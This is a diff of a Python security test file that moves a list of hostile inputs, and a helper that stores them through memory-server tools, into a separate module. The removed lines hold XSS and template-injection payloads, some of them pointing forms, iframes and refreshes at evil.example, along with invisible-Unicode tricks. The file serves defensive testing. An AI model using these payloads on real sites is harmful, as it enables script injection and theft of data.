@@ -22,6 +22,7 @@ from tests.catalogue import Catalogue
 from tests.http.test_console import INSTALLING
 from tests.reliability.workers import serving_by
 from tests.security.authenticated_server import EXPIRED, Answer, House, house
+from tests.security.hostile_texts import HOSTILE, store_everywhere
 from tests.unit.sql.code import ROOT
 
 TYPED = "application/x-www-form-urlencoded"
@@ -308,48 +309,6 @@ def test_session_of_one_worker_is_known_to_the_others(tmp_path: Path) -> None:
     assert statuses == [200] * 8
 
 
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "</pre><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</select><img src=x onerror=alert(1)>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    '" style="position:fixed;inset:0',
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "[link](javascript:alert(1))",
-    "![x](https://evil.example/x.png)",
-    '<a href="javascript:alert(1)">x</a>',
-    "<iframe src=//evil.example></iframe>",
-    "<form action=//evil.example><input name=key></form>",
-    "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>*{display:none}</style>",
-    "<!-- ",
-    "]]>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "{{ 7*7 }}{{ self.__init__.__globals__ }}",
-    "{% for x in range(10**9) %}{% endfor %}",
-    "${7*7}#{7*7}<%= 7*7 %>",
-    "<div hx-get=//evil.example hx-trigger=load>",
-    "<template><script>alert(1)</script></template>",
-    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "\u202etxt.exe\u202c hidden \u2066inside\u2069",
-    "zero\u200bwidth\u200d\ufeff and tags \U000e0041\U000e0042",
-    "line\u2028separator\u2029paragraph\x0b\x0c\x07",
-    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
-    "x" * 5000 + "<b>" * 200,
-)
 _MARKUP = {"script", "link", "meta", "form", "button", "input", "textarea", "select", "option", "a", "title"}
 _INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2069\ufeff\U000e0000-\U000e007f\x0b\x0c\x07]")
 
@@ -374,26 +333,6 @@ class Elements(html.parser.HTMLParser):
 
     def handle_endtag(self, tag: str) -> None:
         self._in_title = False
-
-
-def store_everywhere(server: House, text: str) -> None:
-    """One text in every field that a dialect stores of a memory; what is refused is not stored."""
-    short, tags = text[:90], [text[:60]]
-    calls = (
-        ("add_memory", {"path": f"hostile/{short}", "content": text}),
-        ("save_memory", {"db": "core", "content": text, "category": "fact", "subcategory": short, "tags": tags}),
-        ("create_entity", {"db": "core", "name": short, "type": "person", "description": text, "tags": tags}),
-        ("save_note", {"db": "core", "title": short, "content": text, "note_type": "note", "tags": tags}),
-        ("memory_remember", {"title": short, "content": text, "memoryType": "context", "tags": tags}),
-        ("remember", {"content": text, "session_id": short, "kind": short, "summary": text, "tags": tags}),
-        ("upsert_entity", {"name": short, "entity_type": short, "observations_json": json.dumps([text])}),
-        ("memory_guideline", {"action": "add", "scopeType": "global", "name": short, "content": text}),
-        ("memory_knowledge", {"action": "add", "scopeType": "global", "title": short, "content": text}),
-        ("memory_tool", {"action": "add", "scopeType": "global", "name": short, "description": text}),
-    )
-    stored = [server.tool(name, arguments).status for name, arguments in calls]
-    assert set(stored) <= {200, 400, 403, 409}
-    assert stored.count(200) >= 4
 
 
 def pages_of(server: House) -> Iterator[str]:
